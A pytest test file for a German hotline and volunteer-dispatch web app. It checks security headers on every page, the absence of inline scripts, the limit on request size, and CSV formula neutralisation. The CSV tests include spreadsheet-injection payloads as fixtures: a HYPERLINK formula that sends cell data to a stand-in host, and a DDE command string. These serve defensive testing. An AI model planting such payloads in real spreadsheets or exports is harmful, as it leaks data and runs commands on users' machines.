"""Web hardening: security headers on every page (checked by crawling every GET route of
the app), no inline script or style for the Content-Security-Policy to trip over, a German
413 for oversized requests, and CSV exports a spreadsheet cannot turn into formulas."""

from __future__ import annotations

import datetime as dt
import re
from pathlib import Path

import pytest

from dispatch.engagement import ProfileRequest, create_profile
from dispatch.helper_links import token_for
from dispatch.helpers import start_signup
from dispatch.models import Organisation, OrganisationMember
from dispatch.offers import accept
from dispatch.waves import create_offers
from hotline.core.exports import neutralise, restore
from hotline.core.mail.addresses import unsubscribe_token
from hotline.core.models import Role, utcnow
from hotline.rosters import csvio, ical
from hotline.rosters.audit import SYSTEM
from hotline.rosters.patterns import create_pattern
from hotline.voice.models import Call
from tests.conftest import make_line, make_operator, make_shift
from tests.dispatch_support import DAYTIME, configure, make_helper, make_ticket, offers
from tests.roster_support import PASSWORD, csrf_token, make_user

HTTPS = "https://rufbereit.example.org"
INLINE = [
    re.compile(r"<script(?![^>]*\bsrc=)[^>]*>", re.I),  # inline script
    re.compile(r"<style\b", re.I),
    re.compile(r"\sstyle\s*=", re.I),
    re.compile(r"\son[a-z]+\s*=", re.I),  # onclick=, onload=, …
    re.compile(r"javascript:", re.I),
]


@pytest.fixture
def seeded(app, session, phone) -> dict[str, object]:
    """One of everything a page address can name, and an admin who is also an operator
    and a member of an approved organisation (so every page opens for them)."""
    configure(app)
    line = make_line(session, partner="Wiesbaden")
    operator = make_operator(session)
    shift = make_shift(session, operator, line)
    pattern = create_pattern(
        session,
        SYSTEM,
        line.id,
        operator.id,
        0,
        dt.time(20),
        dt.time(23),
        dt.date(2030, 1, 7),
        dt.date(2030, 2, 7),
    )
    admin = make_user(session, Role.ADMIN, operator=operator, username="ada")
    org = Organisation(name="Tafel", contact_phone="+4915199887766", approved_at=DAYTIME)
    session.add(org)
    session.flush()
    session.add(OrganisationMember(user_id=admin.id, organisation_id=org.id))
    helper = make_helper(session)
    ticket = make_ticket(session)
    profile = create_profile(
        session, org, ProfileRequest("Lesepatenschaft", "phone_company", "10115", 10, 2, 6)
    )
    # An open call-out still ahead, which the public page offers to take.
    public_callout = make_ticket(session, window_start=utcnow() + dt.timedelta(days=1))
    helped = make_ticket(session)  # a help done, so the certificate has something to say
    with app.app_context():
        create_offers(session, ticket, [helper.id], 1, DAYTIME)
        create_offers(session, helped, [helper.id], 1, DAYTIME)
        accept(session, offers(session, helped)[0])
        helper_token = token_for(helper)
        mail_token = unsubscribe_token("mia@example.org")
        signup, _ = start_signup(
            session,
            {
                "name": "Mia",
                "phone": "+4915123456789",
                "postal_code": "10115",
                "activities": "shopping",
                "consent": "1",
            },
            "salt",
        )
    recording = "https://api.twilio.com/2010-04-01/Accounts/AC1/Recordings/RE" + "7" * 32
    call = Call(call_sid="CAseeded", line_id=line.id, caller_hash="h", recording_url=recording)
    session.add(call)
    phone.recordings[recording] = b"ID3-audio"
    session.flush()
    return {
        "call_id": call.id,
        "line_id": line.id,
        "operator_id": operator.id,
        "user_id": admin.id,
        "shift_id": shift.id,
        "pattern_id": pattern.id,
        "helper_id": helper.id,
        "ticket_id": helped.id,
        "org_id": org.id,
        "signup_id": signup.id,
        "dispatch_web.offer:token": offers(session, ticket)[0].token,
        "rosters.calendar_feed:token": ical.feed_token(session, "line", line.id),
        "profile_id": profile.id,
        "partner": line.partner,
        "month": "2030-01",
        "dispatch_web.helper_engagements:token": helper_token,
        "dispatch_web.helper_profile:token": helper_token,
        "dispatch_web.helper_certificate:token": helper_token,
        "today.fragment:name": "running_calls",
        "mail.unsubscribe:token": mail_token,
        "dispatch_web.helper_page:token": helper_token,
        "dispatch_web.helper_page_export:token": helper_token,
        "dispatch_web.helper_page_erase:token": helper_token,
        "reference": public_callout.reference,
        "nonce": "unknown-take",
    }


def _get_urls(app, seeded: dict[str, object]) -> list[tuple[str, str]]:
    """``(endpoint, address)`` of everything the app answers GET on, seeded ids filled in."""
    urls = []
    static = Path(app.static_folder)
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods:
            continue
        if rule.endpoint == "static":
            files = sorted(p for p in static.rglob("*") if p.is_file())
            assert files, "no static files"
            urls += [("static", f"/static/{p.relative_to(static).as_posix()}") for p in files]
            continue
        values = {}
        for name in rule.arguments:
            key = f"{rule.endpoint}:{name}" if f"{rule.endpoint}:{name}" in seeded else name
            assert key in seeded, f"seed a value for <{name}> of {rule.endpoint} ({rule.rule})"
            values[name] = seeded[key]
        urls.append((rule.endpoint, rule.build(values)[1]))
    return urls


def _signed_in_admin(app, base_url: str):  # noqa: ANN202
    client = app.test_client()
    page = client.get("/anmelden", base_url=base_url).get_data(as_text=True)
    token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
    response = client.post(
        "/anmelden",
        data={"username": "ada", "password": PASSWORD, "csrf_token": token},
        base_url=base_url,
        headers={"Referer": f"{base_url}/anmelden"},  # Flask-WTF checks it over https
    )
    assert response.status_code == 302
    return client


#: Pages meant to be shown inside a municipality's website (nothing personal, no forms
#: that change anything).
EMBEDDABLE = {"dispatch_web.embedded_callouts"}


def test_every_page_of_the_app_carries_the_security_headers(app, seeded):
    client = _signed_in_admin(app, HTTPS)
    urls = _get_urls(app, seeded)
    assert len(urls) >= 30  # the whole app, not a handful of pages
    for endpoint, url in urls:
        response = client.get(url, base_url=HTTPS)
        headers = response.headers
        assert response.status_code in (200, 302), (url, response.status_code)
        csp = headers.get("Content-Security-Policy", "")
        if endpoint in EMBEDDABLE:  # made to be framed, by the sites the setting names
            assert f"frame-ancestors {app.config['CALLOUTS_EMBED_ORIGINS']}" in csp, url
            assert "default-src 'none'" in csp and "script-src" not in csp, url
        else:
            assert "frame-ancestors 'none'" in csp, url
            assert "script-src 'self'" in csp and "style-src 'self'" in csp, url
        assert "unsafe-inline" not in csp, url
        assert headers.get("X-Content-Type-Options") == "nosniff", url
        assert headers.get("X-Frame-Options") == "DENY", url
        assert headers.get("Strict-Transport-Security", "").startswith("max-age="), url
        # The dispatch pages (accept links carry a token) send no referrer at all.
        private = endpoint.startswith("dispatch_web.")
        expected = "no-referrer" if private else "strict-origin-when-cross-origin"
        assert headers.get("Referrer-Policy") == expected, url
        if response.mimetype == "text/html":
            page = response.get_data(as_text=True)
            for pattern in INLINE:
                assert not pattern.search(page), (url, pattern.pattern)


def test_a_plain_http_request_is_not_told_to_insist_on_https(app, seeded):
    response = app.test_client().get("/anmelden")
    assert "Strict-Transport-Security" not in response.headers
    assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_error_pages_and_webhooks_carry_the_headers_too(app, twilio):
    missing = app.test_client().get("/gibt-es-nicht")
    unsigned = twilio.post("/twilio/voice", signed=False)
    for response in (missing, unsigned):
        assert response.status_code in (403, 404)
        assert "frame-ancestors 'none'" in response.headers["Content-Security-Policy"]


def test_the_accept_links_keep_sending_no_referrer(app, session, seeded):
    response = app.test_client().get(f"/d/{seeded['dispatch_web.offer:token']}")
    assert response.status_code == 200
    assert response.headers["Referrer-Policy"] == "no-referrer"
    assert "frame-ancestors 'none'" in response.headers["Content-Security-Policy"]


# -- request size ---------------------------------------------------------------------------


def test_requests_may_be_two_megabytes_by_default(app):
    assert app.config["MAX_CONTENT_LENGTH"] == 2 * 1024 * 1024


def test_an_oversized_upload_is_refused_in_german(app, session):
    make_user(session, Role.PLANNER, username="paula")
    client = app.test_client()
    token = csrf_token(client)
    body = {"csrf_token": token, "kind": "shifts", "csv": "x" * (2 * 1024 * 1024 + 1)}
    response = client.post("/dienstplan/import", data=body)
    assert response.status_code == 413
    page = response.get_data(as_text=True)
    assert "Die Anfrage ist zu groß" in page and "höchstens 2 MB" in page
    assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_the_limit_is_a_setting(app):
    app.config["MAX_CONTENT_LENGTH"] = 1536 * 1024
    response = app.test_client().post("/anmelden", data={"username": "x" * (1600 * 1024)})
    assert response.status_code == 413
    assert "höchstens 1,5 MB" in response.get_data(as_text=True)


# -- CSV exports ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("https://evil.example/?"&A2,"Anna")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_cells_a_spreadsheet_would_read_as_formulas_are_marked_as_text(cell):
    assert neutralise(cell) == "'" + cell
    assert restore(neutralise(cell)) == cell


@pytest.mark.parametrize("cell", ["Anna", "2030-01-07 20:00", "'quoted", "", "de en"])
def test_ordinary_cells_are_exported_as_they_are(cell):
    assert neutralise(cell) == cell
    assert restore(cell) == cell


def test_an_operator_named_like_a_formula_is_exported_as_text_and_reads_back(session):
    evil = '=HYPERLINK("https://evil.example/?"&B2,"Anna")'
    operator = make_operator(session, name=evil, phone="+4915100000042")
    exported = csvio.export_operators(session)
    assert "\n=" not in exported and ",=" not in exported and ",+" not in exported
    assert "'+4915100000042" in exported
    operator.name = "renamed"
    session.flush()
    report = csvio.import_operators(session, exported)
    assert report.ok and report.updated == 1
    session.refresh(operator)
    assert (operator.name, operator.phone_number) == (evil, "+4915100000042")


def test_shift_exports_mark_every_formula_like_cell(session):
    line = make_line(session)
    operator = make_operator(session, name="@Anna")
    make_shift(session, operator, line)
    rows = csvio.export_shifts(session).splitlines()[1:]
    assert rows, "nothing exported"
    for row in rows:
        for cell in row.split(","):
            assert not cell.lstrip('"').startswith(("=", "+", "-", "@", "\t", "\r")), row
